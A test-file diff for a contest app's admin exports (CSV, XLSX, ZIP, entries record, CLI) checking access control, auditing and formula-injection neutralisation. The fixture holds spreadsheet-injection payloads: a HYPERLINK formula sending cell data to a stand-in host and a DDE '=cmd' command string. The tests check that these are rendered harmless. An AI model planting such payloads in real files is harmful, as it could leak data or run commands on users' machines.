@@ -1,0 +1,287 @@
+"""Winners' exports (CSV, XLSX, streamed ZIP of originals), the entries' record, the CLI export."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import select
+
+from contest.exports import WINNERS_HEADER
+from contest.extensions import db
+from contest.models import AuditLog, Entry, Flag, utcnow
+from contest.storage import get_storage
+
+from .test_awards import give_scores, judges  # noqa: F401 - judges is a fixture
+from .test_winners import award
+
+EXPORTS = [
+    "/admin/export/winners.csv",
+    "/admin/export/winners.xlsx",
+    "/admin/export/winners.zip",
+    "/admin/export/entries.csv",
+]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HYPERLINK = '=HYPERLINK("http://x?"&A1,"a")'
+
+
+@pytest.fixture
+def winners(app, make_entry, judges) -> dict[str, int]:  # noqa: F811
+    """Four winners whose text would run as formulas, a minor among them, and a loser."""
+    ids = {
+        "grand": make_entry(
+            title="@SUM(1)", entrant_name=HYPERLINK, phone="+821012345678", email="a@example.com"
+        ),
+        "gold": make_entry(title="-1", entrant_name="+82 10-1234-5678", phone="+447911123456"),
+        "silver": make_entry(
+            title="\t=cmd|' /C calc'!A0",
+            entrant_name="김어린",
+            under14=True,
+            guardian_name="\t=1",
+            guardian_phone="+821099998888",
+            guardian_consented_at=utcnow(),
+        ),
+        "video": make_entry(title="영상 대상", kind="video", entrant_name="박영상"),
+        "loser": make_entry(title="낙선작", entrant_name="최낙선", email="loser@example.com"),
+    }
+    for key, mean in (("grand", 9.0), ("gold", 8.0), ("silver", 7.0), ("video", 6.0)):
+        give_scores(app, ids[key], judges, mean)
+    award(app, ids["grand"], "grand", 1)
+    award(app, ids["gold"], "gold", 2)
+    award(app, ids["silver"], "silver", 3)
+    award(app, ids["video"], "grand", 1)
+    return ids
+
+
+def receipt(app, entry_id: int) -> str:
+    with app.app_context():
+        return db.session.get(Entry, entry_id).receipt_display
+
+
+def original_bytes(app, entry_id: int) -> bytes:
+    with app.app_context():
+        entry = db.session.get(Entry, entry_id)
+        with get_storage().open(entry.asset("original").key) as f:
+            return f.read()
+
+
+def parse(body: bytes) -> list[list[str]]:
+    assert body.startswith(b"\xef\xbb\xbf")  # the BOM Korean Excel needs
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+
+
+def export_audits(app) -> list[AuditLog]:
+    with app.app_context():
+        rows = db.session.scalars(
+            select(AuditLog).where(AuditLog.action.like("export-%")).order_by(AuditLog.id)
+        ).all()
+        db.session.expunge_all()
+        return rows
+
+
+# --- Who may -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("path", EXPORTS)
+def test_visitors_are_sent_to_login(client, path):
+    response = client.get(path)
+    assert response.status_code == 303
+    assert response.headers["Location"].startswith("/login")
+
+
+@pytest.mark.parametrize("path", EXPORTS)
+def test_judges_cannot_export(app, client, judge, path):
+    assert client.get(path).status_code == 403
+    assert export_audits(app) == []
+
+
+# --- CSV -----------------------------------------------------------------------------------
+
+
+def test_winners_csv_is_quoted_neutralised_and_for_korean_excel(app, client, admin, winners):
+    response = client.get("/admin/export/winners.csv")
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"] == 'attachment; filename="winners.csv"'
+    assert response.headers["Cache-Control"] == "no-store"
+    body = response.get_data()
+    text = body.decode("utf-8-sig")
+    field = r'"(?:[^"]|"")*"'
+    lines = text.split("\r\n")
+    assert lines[-1] == ""
+    assert all(re.fullmatch(f"{field}(?:,{field})*", line) for line in lines[:-1])  # all quoted
+
+    header, *rows = parse(body)
+    assert tuple(header) == WINNERS_HEADER
+    assert len(rows) == 4  # one per award; the loser is not in it
+    assert all(len(row) == len(header) for row in rows)
+    by_receipt = {row[4]: dict(zip(header, row, strict=True)) for row in rows}
+
+    grand = by_receipt[receipt(app, winners["grand"])]
+    assert grand["상"] == "대상" and grand["부문"] == "사진"
+    assert grand["부문 내 순서"] == "1" and grand["심사 순위"] == "1"
+    assert grand["이름"] == "'" + HYPERLINK
+    assert grand["제목"] == "'@SUM(1)"
+    assert grand["이메일"] == "a@example.com"
+    assert grand["전화번호"] == "010-1234-5678"  # Korean numbers written nationally: no +
+    assert grand["보호자 이름"] == "" and grand["보호자 전화번호"] == ""
+    assert grand["가중 평균"] == "9.00" and grand["심사 수"] == "3"
+
+    gold = by_receipt[receipt(app, winners["gold"])]
+    assert gold["이름"] == "'+82 10-1234-5678"
+    assert gold["제목"] == "'-1"
+    assert gold["전화번호"] == "'+44 7911 123456"  # a foreign number keeps its +, quoted
+
+    silver = by_receipt[receipt(app, winners["silver"])]
+    assert silver["제목"] == "'\t=cmd|' /C calc'!A0"
+    assert silver["보호자 이름"] == "'\t=1"
+    assert silver["보호자 전화번호"] == "010-9999-8888"
+
+    assert by_receipt[receipt(app, winners["video"])]["부문"] == "영상"
+    for row in rows:
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
+    assert "최낙선" not in text and "loser@example.com" not in text
+
+
+def test_every_export_is_audited_with_who_what_and_how_many(app, client, admin, winners):
+    for path in EXPORTS:
+        assert client.get(path).status_code == 200
+    rows = export_audits(app)
+    seen = [(r.action, r.new["format"]) for r in rows]
+    assert seen[:4] == [
+        ("export-winners", "csv"),
+        ("export-winners", "xlsx"),
+        ("export-winners", "zip"),
+        ("export-entries", "csv"),
+    ]
+    assert all(r.user_id == admin and r.new["by"] == "organiser-lee" for r in rows)
+    assert [r.new["rows"] for r in rows[:4]] == [4, 4, 4, 5]
+    assert all(r.at is not None for r in rows)
+
+
+# --- XLSX ----------------------------------------------------------------------------------
+
+
+def test_winners_xlsx_has_the_same_rows_and_no_formula(app, client, admin, winners):
+    csv_rows = parse(client.get("/admin/export/winners.csv").get_data())
+    response = client.get("/admin/export/winners.xlsx")
+    assert response.headers["Content-Disposition"] == 'attachment; filename="winners.xlsx"'
+    assert response.headers["Cache-Control"] == "no-store"
+    sheet = load_workbook(io.BytesIO(response.get_data())).active
+    xlsx_rows = []
+    for line in sheet.iter_rows():
+        assert all(cell.data_type != "f" for cell in line)
+        xlsx_rows.append(
+            [
+                ""
+                if c.value is None
+                else f"{c.value:.2f}"
+                if c.number_format == "0.00"  # means: shown with two decimals
+                else str(c.value)
+                for c in line
+            ]
+        )
+    assert xlsx_rows == csv_rows
+    values = [c.value for line in sheet.iter_rows() for c in line if isinstance(c.value, str)]
+    assert not any(v.startswith("=") for v in values)
+
+
+# --- ZIP -----------------------------------------------------------------------------------
+
+
+def test_winners_zip_streams_the_untouched_originals_and_the_csv(app, client, admin, winners):
+    csv_body = client.get("/admin/export/winners.csv").get_data()
+    response = client.get("/admin/export/winners.zip")
+    assert response.status_code == 200
+    assert response.is_streamed
+    assert response.mimetype == "application/zip"
+    assert response.headers["Content-Disposition"] == 'attachment; filename="winners.zip"'
+    assert response.headers["Cache-Control"] == "no-store"
+    assert "Content-Length" not in response.headers
+    chunks = list(response.response)
+    assert len(chunks) > 4  # sent file by file as it is made, not as one built body
+    with zipfile.ZipFile(io.BytesIO(b"".join(chunks))) as archive:
+        assert archive.testzip() is None
+        expected = {
+            f"대상_사진_{receipt(app, winners['grand'])}.jpg": winners["grand"],
+            f"최우수상_사진_{receipt(app, winners['gold'])}.jpg": winners["gold"],
+            f"우수상_사진_{receipt(app, winners['silver'])}.jpg": winners["silver"],
+            f"대상_영상_{receipt(app, winners['video'])}.jpg": winners["video"],
+        }
+        assert sorted(archive.namelist()) == sorted([*expected, "winners.csv"])
+        for name, entry_id in expected.items():
+            assert archive.read(name) == original_bytes(app, entry_id)  # byte-identical
+            assert archive.getinfo(name).compress_type == zipfile.ZIP_STORED
+        assert archive.read("winners.csv") == csv_body
+
+
+def test_a_missing_original_is_listed_instead_of_breaking_the_zip(app, client, admin, winners):
+    with app.app_context():
+        get_storage().delete(db.session.get(Entry, winners["gold"]).asset("original").key)
+    with zipfile.ZipFile(io.BytesIO(client.get("/admin/export/winners.zip").get_data())) as z:
+        assert len([n for n in z.namelist() if n.endswith(".jpg")]) == 3
+        assert receipt(app, winners["gold"]) in z.read("missing-originals.txt").decode()
+
+
+# --- Entries' record -----------------------------------------------------------------------
+
+
+def test_entries_csv_lists_every_entry_with_status_flags_and_award(
+    app, client, admin, winners, make_entry
+):
+    rejected = make_entry(title="=제외작", status="rejected", rejected_reason="저작권 침해")
+    with app.app_context():
+        db.session.add_all(
+            [
+                Flag(entry_id=winners["loser"], kind="near-duplicate", detail="x"),
+                Flag(entry_id=winners["loser"], kind="capture-time", dismissed_at=utcnow()),
+            ]
+        )
+        db.session.commit()
+    response = client.get("/admin/export/entries.csv")
+    assert response.headers["Content-Disposition"] == 'attachment; filename="entries.csv"'
+    assert response.headers["Cache-Control"] == "no-store"
+    header, *rows = parse(response.get_data())
+    assert header[:4] == ["접수번호", "부문", "제목", "상태"]
+    assert len(rows) == 6
+    by_receipt = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
+    loser = by_receipt[receipt(app, winners["loser"])]
+    assert loser["상태"] == "접수"
+    assert loser["플래그"] == "near-duplicate; capture-time (해제)"
+    assert loser["수상"] == ""
+    out = by_receipt[receipt(app, rejected)]
+    assert out["상태"] == "제외" and out["제외 사유"] == "저작권 침해"
+    assert out["제목"] == "'=제외작"
+    assert by_receipt[receipt(app, winners["grand"])]["수상"] == "대상"
+    text = response.get_data(as_text=True)
+    assert "@example.com" not in text and "최낙선" not in text  # no contact data in the record
+
+
+# --- CLI -----------------------------------------------------------------------------------
+
+
+def test_the_cli_writes_the_three_files_with_the_same_functions(app, runner, winners, tmp_path):
+    out = tmp_path / "export"
+    result = runner.invoke(args=["export-winners", "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    assert "Wrote 4 winners" in result.output
+    header, *rows = parse((out / "winners.csv").read_bytes())
+    assert tuple(header) == WINNERS_HEADER and len(rows) == 4
+    sheet = load_workbook(out / "winners.xlsx").active
+    assert sheet.max_row == 5
+    with zipfile.ZipFile(out / "winners.zip") as archive:
+        name = f"대상_사진_{receipt(app, winners['grand'])}.jpg"
+        assert archive.read(name) == original_bytes(app, winners["grand"])
+        assert archive.read("winners.csv") == (out / "winners.csv").read_bytes()
+    audits = export_audits(app)
+    assert [(a.new["format"], a.new["by"], a.user_id) for a in audits] == [
+        ("csv", "cli", None),
+        ("xlsx", "cli", None),
+        ("zip", "cli", None),
+    ]
+    assert Path(out).stat().st_mode & 0o077 == 0  # personal data: the owner only
